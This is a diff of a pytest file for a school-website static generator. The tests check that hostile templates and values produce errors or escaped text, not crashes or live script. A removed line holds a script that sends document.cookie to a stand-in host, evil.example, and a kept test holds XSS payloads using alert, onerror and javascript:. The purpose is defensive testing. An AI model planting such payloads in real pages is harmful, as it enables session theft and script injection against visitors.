@@ -1,7 +1,7 @@
-"""Hostile content through the real binary: school templates that once crashed every build
-(exit 139, with `check` saying 0 errors and `serve` dying), scripts in school templates and
-SVG logos, `mailto:` parameters in emails, and terminal escapes in names. Run through the
-binary so that a crash fails a test instead of ending the test run."""
+"""Hostile input through the real binary: theme templates that once crashed every build
+(exit 139, with `check` saying 0 errors and `serve` dying), a school's left-over templates/
+folder, scripts in values and SVG logos, `mailto:` parameters in emails, and terminal escapes
+in names. Run through the binary so that a crash fails a test instead of ending the test run."""
 import json
 import os
 import pathlib
@@ -29,11 +29,12 @@ def project(tmp_path):
     return tmp_path
 
 
-def own_templates(project, templates):
-    folder = project / SCHOOL / "templates"
-    folder.mkdir(parents=True, exist_ok=True)
+THEME = "Themes/default/templates"
+
+
+def theme_templates(project, templates):
     for name, text in templates.items():
-        (folder / f"{name}.mustache").write_text(text)
+        (project / THEME / f"{name}.mustache").write_text(text)
 
 
 def nested(levels, inner="x", name="school"):
@@ -51,37 +52,42 @@ HOSTILE = {
     "nested-through-includes": ({"footer": nested(80, "{{> school-contacts}}"), "school-contacts": nested(80)},
                                 "with the templates it includes"),
     "dynamic-partial": ({"footer": "<footer>{{>*which}}</footer>\n"}, "takes the name of the template to include from a value"),
-    "script": ({"footer": "<footer><script>fetch('https://evil.example/?'+document.cookie)</script></footer>\n"},
-               "a school's template cannot run scripts"),
-    "unescaped-content": ({"footer": "<footer>{{#school}}{{{school_name}}}{{/school}}</footer>\n"}, "without escaping it"),
-    "escaping-off": ({"footer": "{{% CONTENT_TYPE: TEXT }}<footer>{{school_name}}</footer>\n"}, "changes how values are escaped"),
-    "misspelt-name": ({"foter": "<footer>Ours</footer>\n"}, "foter.mustache does not replace any of the theme's templates"),
-    # Large and repetitive: read in one pass, and reported as its first problems and a count.
-    "large-and-repetitive": ({"footer": "<a title=\"" + "x" * 100_000 + "\" onclick=\"" + "y" * 50_000 + "\">a</a><title>"
-                              + "<" * 50_000 + "</title>" + "{{{summary}}}" * 3_000},
-                             "and 5952 more problems like these in this template"),
 }
 
 
 @pytest.mark.parametrize("case", sorted(HOSTILE))
-def test_hostile_school_templates_are_errors_not_crashes(project, case):
+def test_hostile_theme_templates_are_errors_not_crashes(project, case):
     templates, expected = HOSTILE[case]
-    own_templates(project, templates)
+    theme_templates(project, templates)
     check = run("check", cwd=project)
     assert check.returncode == 1, f"check exited {check.returncode}\n{check.stdout}\n{check.stderr[-2000:]}"
     assert expected in check.stdout, check.stdout
-    assert f"{SCHOOL}/templates/" in check.stdout
+    assert f"{THEME}/" in check.stdout
     assert len(check.stdout.splitlines()) < 60
     build = run("build", "--output", "Site", cwd=project)
     assert build.returncode == 1, f"build exited {build.returncode}\n{build.stderr[-2000:]}"
     assert expected in build.stderr
-    # The other schools are built; this one, never published, is left out and named.
-    assert "Left out Westlands First School, which has not been published before" in build.stdout, build.stdout
-    assert (project / "Site/index.html").exists() and not (project / "Site/westlands-first").exists()
+    # The theme is every school's: nothing is written.
+    assert not (project / "Site").exists()
     assert not list(project.glob(".Site-building-*"))
 
 
-def test_serve_survives_a_school_template_that_includes_itself(project):
+def test_a_schools_templates_folder_is_an_error_and_the_other_schools_are_built(project):
+    (project / SCHOOL / "templates").mkdir()
+    (project / SCHOOL / "templates/footer.mustache").write_text("<footer>Ours</footer>\n")
+    check = run("check", cwd=project)
+    assert check.returncode == 1, check.stdout
+    assert (f"{SCHOOL}/templates/footer.mustache:1:1: error: schools no longer have their own templates, so footer.mustache is not used"
+            f" and Westlands First School's pages are not built — put the school's footer note in `footer_note:` and its own links"
+            f" in `links:` in {SCHOOL}/school.md, then delete the templates/ folder") in check.stdout, check.stdout
+    build = run("build", "--output", "Site", cwd=project)
+    assert build.returncode == 1
+    assert "Left out Westlands First School, which has not been published before" in build.stdout, build.stdout
+    assert (project / "Site/index.html").exists() and not (project / "Site/westlands-first").exists()
+    assert (project / "Site/droitwich-spa-high/index.html").exists()
+
+
+def test_serve_survives_a_theme_template_that_includes_itself(project):
     with socket.socket() as s:
         s.bind(("127.0.0.1", 0))
         port = s.getsockname()[1]
@@ -107,7 +113,7 @@ def test_serve_survives_a_school_template_that_includes_itself(project):
         saves = 0
         while not (status() or {}).get("errors") and time.time() < deadline:
             if saves * 3 <= 30 - (deadline - time.time()):
-                own_templates(project, {"footer": "<footer>\n{{> footer}}\n</footer>\n" + "\n" * saves})
+                theme_templates(project, {"footer": "<footer>\n{{> footer}}\n</footer>\n" + "\n" * saves})
                 saves += 1
             time.sleep(0.2)
         errors = (status() or {}).get("errors", [])
@@ -215,8 +221,8 @@ class PageScan(__import__("html.parser").parser.HTMLParser):
             self.in_data_block = False
 
 
-def test_accepted_school_templates_with_hostile_values_publish_no_script(project):
-    """Templates that pass the checks put values only where escaping keeps them text."""
+def test_hostile_values_publish_no_script(project):
+    """The theme puts values only where escaping keeps them text."""
     hostile = "\"'><script>alert(1)</script><img src=x onerror=alert(2)> javascript:alert(3)"
     quoted = "'" + hostile.replace("'", "''") + "'"
     (project / "Content/agencies/hostile-values.md").write_text(
@@ -224,15 +230,6 @@ def test_accepted_school_templates_with_hostile_values_publish_no_script(project
     school = project / SCHOOL / "school.md"
     school.write_text(school.read_text().replace("agencies: [", "agencies: [hostile-values, ", 1)
                       .replace("name: Westlands First School", f"name: {quoted}", 1))
-    theme = project / "Themes/default/templates"
-    own_templates(project, {
-        "person-card": (theme / "person-card.mustache").read_text(),
-        "layout": (theme / "layout.mustache").read_text(),
-        "entry-card": "<li><{{card_heading}} title=\"{{summary}}\" class='{{name}}'><a href=\"{{link}}\">{{name}}</a></{{card_heading}}>"
-                      "<!-- {{name}} --><p{{#summary}} data-x=\"{{summary}}\"{{/summary}}>{{summary}}</p></li>\n",
-        "footer": "<footer>{{#school}}<textarea>{{school_name}}</textarea><a href=\"mailto:{{school_email}}\" title='{{school_name}}'>"
-                  "{{school_name}}</a>{{/school}}{{{footer_html}}}</footer>\n",
-    })
     check = run("check", cwd=project)
     assert check.returncode == 0, check.stdout
     assert run("build", cwd=project).returncode == 0
